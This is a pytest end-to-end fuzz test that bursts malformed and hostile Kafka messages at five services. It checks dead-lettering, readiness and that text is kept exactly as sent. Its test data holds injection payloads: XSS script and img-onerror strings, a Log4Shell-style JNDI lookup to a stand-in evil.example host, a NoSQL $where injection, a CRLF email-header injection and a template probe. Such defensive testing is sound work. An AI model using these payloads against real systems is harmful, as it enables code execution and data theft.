"""A burst of hostile messages on every topic any service subscribes to, against the five
services running as processes of their own.

The broken messages (truncated, undecodable, wrongly typed, wrongly keyed, oversized, nested
too deep, with stray header bytes and a ``reply_to`` aimed elsewhere) are drawn from the
strategies in ``tests/fuzzing`` with a fixed seed. Between them go valid messages whose
text is as hostile as a person could type (markup, injections, odd Unicode): they must be
processed and their text kept as sent. Every broken message must reach the topic's
dead-letter topic once per consuming service, with its bytes and a reason, while every
service stays alive and ready and catches up with everything sent.

Size: ``FUZZ_BAD_PER_TOPIC`` broken messages per topic (default 25, nine topics, about 450
dead letters; 50 s here, most of it starting the services). The fuller run,
``FUZZ_BAD_PER_TOPIC=300``, sends 2,700 (about 5,100 dead letters) and took 90 s on this
2-core machine (11 minutes while other heavy work shared it). ``FUZZ_SEED`` picks another
draw.
"""

from __future__ import annotations

import asyncio
import json
import os
from collections import defaultdict
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import pytest_asyncio
from aiokafka import AIOKafkaProducer

from contracts.catalogue import (
    HR_EMPLOYEES,
    MATCHING_COMMANDS,
    PROFILE_EVENTS,
    RECOGNITION_COMMANDS,
    SCHEDULING_COMMANDS,
)
from contracts.common import MentorshipKind
from contracts.matching import RequestMentorship, RequestMentorshipData
from contracts.recognition import GiveKudos, GiveKudosData
from tests.e2e.platform import PROFILE_READERS, Employee, Platform, platform_for_module
from tests.fuzzing.drawing import draw_examples
from tests.fuzzing.strategies import Fuzzed, bad_message, consumed_topics, inbound_topics
from tests.support.builders import onboarding_json
from tests.support.infrastructure import Infrastructure
from tests.support.kafka import read_all
from tests.support.scheduling import publish_office_hours

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="module")]

BAD_PER_TOPIC = int(os.environ.get("FUZZ_BAD_PER_TOPIC", "25"))
SEED = int(os.environ.get("FUZZ_SEED", "20261128"))
CASE_HEADER = "fuzz.case"
STRAY_HEADERS = (("x-fuzz", b"\xff\xfe"), ("traceparent", b"\xed\xa0\x80"))
"""Good messages carry these too: headers are no part of a contract and never refuse one."""

PEOPLE = (
    Employee("FZ-SCRIPT", "<script>alert(1)</script>"),
    Employee("FZ-SLACK", "<https://evil.example|click> <!channel>"),
    Employee("FZ-MD", "[click](http://evil.example) **now** *bold*"),
    Employee("FZ-QUERY", '{"$where": "sleep(5000)"} $gt'),
    Employee("FZ-RTL", "\u202eevil\u202c Ω≈ç 𝕳🙂"),
    Employee("FZ-CRLF", "Ada\r\nBcc: victim@example.com"),
    Employee("FZ-NUL", "Nul\u0000Byte"),
)
KUDOS_TEXT = "<img src=x onerror=alert(1)> *thanks* [x](http://evil.example) <@U024BE7LH>"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def platform(
    infrastructure: Infrastructure, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Platform]:
    async with platform_for_module(infrastructure, tmp_path_factory) as up:
        yield up


# ------------------------------------------------------------------ what is sent


def broken_messages(platform: Platform) -> list[Fuzzed]:
    reply_topic = platform.topic("fuzz.replies")
    cases: list[Fuzzed] = []
    for index, spec in enumerate(consumed_topics()):
        cases += draw_examples(bad_message(spec, reply_topic), BAD_PER_TOPIC, seed=SEED + index)
    return cases


def good(topic: str, body: dict[str, Any], key: str) -> Fuzzed:
    return Fuzzed(topic, json.dumps(body).encode(), key=key.encode(), headers=STRAY_HEADERS)


def onboardings(platform: Platform) -> list[Fuzzed]:
    return [
        good(
            HR_EMPLOYEES.name,
            onboarding_json(p.person_id, full_name=p.name, work_email=platform.address(p.person_id)),
            p.person_id,
        )
        for p in PEOPLE
    ]


def commands() -> list[Fuzzed]:
    kudos = GiveKudos.create(
        GiveKudosData(kudos_id="fz-kudos", from_id="FZ-SCRIPT", to_id="FZ-CRLF", message=KUDOS_TEXT),
        source="web",
    )
    request = RequestMentorship.create(
        RequestMentorshipData(
            request_id="fz-request",
            requester_id="FZ-RTL",
            kind=MentorshipKind.ONE_TO_ONE,
            programme_id="career-growth",
            topics=["kafka"],
            note="<b>help</b> {{ 7*7 }} ${jndi:ldap://evil.example/a}",
        ),
        source="web",
    )
    office_hours = publish_office_hours("fz-office-hours", "FZ-SLACK", title="<i>Ask</i> *me* [x](http://e)")
    return [
        good(RECOGNITION_COMMANDS.name, json.loads(kudos.to_json_bytes()), kudos.subject),
        good(MATCHING_COMMANDS.name, json.loads(request.to_json_bytes()), request.subject),
        good(SCHEDULING_COMMANDS.name, json.loads(office_hours.to_json_bytes()), office_hours.subject),
    ]


def interleaved(bad: list[Fuzzed], good_ones: list[Fuzzed]) -> list[tuple[int | None, Fuzzed]]:
    """Broken messages numbered by case, with the good ones spread evenly between them."""
    numbered: list[tuple[int | None, Fuzzed]] = [(n, f) for n, f in enumerate(bad)]
    step = max(1, len(numbered) // (len(good_ones) + 1))
    for position, message in enumerate(good_ones, start=1):
        numbered.insert(min(position * step + position - 1, len(numbered)), (None, message))
    return numbered


async def send_burst(platform: Platform, messages: list[tuple[int | None, Fuzzed]], offset: int) -> None:
    """Everything at once through one producer, as a misbehaving system would."""
    producer = AIOKafkaProducer(
        bootstrap_servers=platform.infra.kafka_bootstrap, acks="all", max_request_size=2_000_000
    )
    await producer.start()
    try:
        sent = []
        for case, message in messages:
            headers = list(message.headers)
            if case is not None:
                headers.append((CASE_HEADER, str(case + offset).encode()))
            sent.append(
                await producer.send(
                    platform.topic(message.topic), message.value, key=message.key, headers=headers
                )
            )
        await asyncio.gather(*sent)
    finally:
        await producer.stop()


# ------------------------------------------------------------------ watching


class HealthWatch:
    """Polls every service's readiness while the block runs, and once more at its end;
    remembers every answer that was not 200."""

    def __init__(self, platform: Platform) -> None:
        self.platform = platform
        self.failures: list[str] = []
        self.polls = 0
        self._task: asyncio.Task[None] | None = None

    async def _round(self) -> None:
        # A connection per poll: a kept-alive one may be closed by the server just as it is
        # reused, which says nothing about the service.
        async with httpx.AsyncClient(timeout=10, limits=httpx.Limits(max_keepalive_connections=0)) as client:
            await self._poll_each(client)

    async def _poll_each(self, client: httpx.AsyncClient) -> None:
        for name, service in self.platform.services.items():
            try:
                response = await client.get(service.http.base_url.join("/health/ready"))
                if response.status_code != 200:
                    self.failures.append(f"{name}: {response.status_code} {response.text}")
            except httpx.HTTPError as error:
                self.failures.append(f"{name}: {type(error).__name__}")
        self.polls += 1

    async def _poll(self) -> None:
        while True:
            await self._round()
            await asyncio.sleep(1)

    async def __aenter__(self) -> HealthWatch:
        self._task = asyncio.get_running_loop().create_task(self._poll())
        return self

    async def __aexit__(self, *_: object) -> None:
        assert self._task is not None
        if self._task.done():
            self._task.result()  # the watch itself broke: say how, rather than watch nothing
        self._task.cancel()
        await self._round()


async def everything_handled(platform: Platform) -> None:
    waits = [
        platform.handled(service, spec.name, timeout=240)
        for service, specs in inbound_topics().items()
        for spec in specs
    ]
    await asyncio.gather(*waits)


# ------------------------------------------------------------------ the run


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def burst(platform: Platform) -> dict[str, Any]:
    """Two bursts (profiles first, then commands about them), each mixed into broken messages;
    then waiting until every service has handled everything. What was sent and seen."""
    bad = broken_messages(platform)
    half = len(bad) // 2
    async with HealthWatch(platform) as health:
        await send_burst(platform, interleaved(bad[:half], onboardings(platform)), offset=0)
        # Commands about a person are refused until their profile exists: let it exist, and
        # reach every service, as it would have before a person could act.
        await platform.handled("profile", HR_EMPLOYEES.name, timeout=240)
        await asyncio.gather(
            *(platform.handled(s, PROFILE_EVENTS.name, timeout=240) for s in PROFILE_READERS)
        )
        await send_burst(platform, interleaved(bad[half:], commands()), offset=half)
        await everything_handled(platform)
    return {"bad": bad, "health": health}


async def test_every_broken_message_is_dead_lettered_by_every_service_that_consumes_its_topic(
    platform: Platform, burst: dict[str, Any]
) -> None:
    bad: list[Fuzzed] = burst["bad"]
    consumers: dict[str, set[str]] = defaultdict(set)
    for service, specs in inbound_topics().items():
        for spec in specs:
            consumers[spec.name].add(service)
    expected = {(case, service) for case, f in enumerate(bad) for service in consumers[f.topic]}

    seen: set[tuple[int, str]] = set()
    strays: list[dict[str, str]] = []
    for spec in consumed_topics():
        for record in await read_all(platform.infra.kafka_bootstrap, platform.topic(spec.dead_letter)):
            headers = record.headers
            if CASE_HEADER not in headers:
                strays.append(headers)
                continue
            case = int(headers[CASE_HEADER])
            sent = bad[case]
            assert sent.topic == spec.name
            assert record.value == (sent.value or b""), f"case {case}: the bytes as sent"
            assert record.key == sent.key
            assert headers["dlq.reason"], f"case {case} ({sent.flaw}) has no reason"
            assert headers["dlq.permanent"] == "true", (case, sent.flaw, headers["dlq.reason"])
            seen.add((case, headers["dlq.service"]))

    assert strays == [], "only the broken messages are dead-lettered"
    missing = sorted(expected - seen)
    assert not missing, (
        f"{len(missing)} not dead-lettered, e.g. {[(c, s, bad[c].flaw) for c, s in missing[:5]]}"
    )
    assert seen == expected, "each broken message is dead-lettered once per consuming service"


async def test_no_service_crashed_or_stopped_being_ready_during_the_burst(
    platform: Platform, burst: dict[str, Any]
) -> None:
    health: HealthWatch = burst["health"]
    assert health.polls > 0
    assert health.failures == []
    assert {name: s.process.poll() for name, s in platform.services.items()} == dict.fromkeys(
        platform.services
    )


async def test_a_reply_to_header_makes_no_service_publish_anywhere_else(
    platform: Platform, burst: dict[str, Any]
) -> None:
    assert any(name == "reply_to" for f in burst["bad"] for name, _ in f.headers)
    assert await read_all(platform.infra.kafka_bootstrap, platform.topic("fuzz.replies")) == []


async def test_people_with_hostile_names_are_profiled_with_their_names_exactly_as_sent(
    platform: Platform, burst: dict[str, Any]
) -> None:
    for person in PEOPLE:
        profile = await platform.get("profile", f"/profiles/{person.person_id}")
        assert profile["display_name"] == person.name


async def test_commands_mixed_into_the_burst_are_carried_out_with_their_text_as_sent(
    platform: Platform, burst: dict[str, Any]
) -> None:
    recognition = await platform.until(
        "recognition",
        "/people/FZ-CRLF/recognition",
        lambda r: bool(r["kudos"]),
        what="the kudos recorded",
    )
    assert recognition["kudos"][0]["message"] == KUDOS_TEXT
    # The new hires wait in the onboarding programme: no mentor was ever onboarded.
    await platform.until(
        "matching", "/waitlist", lambda w: w.get("career-growth") == 1, what="the request waitlisted"
    )
    slots = await platform.until(
        "scheduling",
        "/office-hours",
        lambda s: any(slot.get("office_hours_id") == "fz-office-hours" for slot in s),
        what="the office hours published",
    )
    assert {slot["title"] for slot in slots if slot["office_hours_id"] == "fz-office-hours"} == {
        "<i>Ask</i> *me* [x](http://e)"
    }


async def test_the_kudos_mail_reaches_someone_with_a_line_break_in_their_name_and_shows_markup_as_text(
    platform: Platform, burst: dict[str, Any]
) -> None:
    mail = await platform.mail("FZ-CRLF", lambda subject: "kudos" in subject, what="the kudos mail")
    assert "<img src=x" not in mail.html
    assert "<script>" not in mail.html
    assert "&lt;img src=x onerror=alert(1)&gt;" in mail.html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in mail.html
    assert "<script>alert(1)</script>" in mail.subject
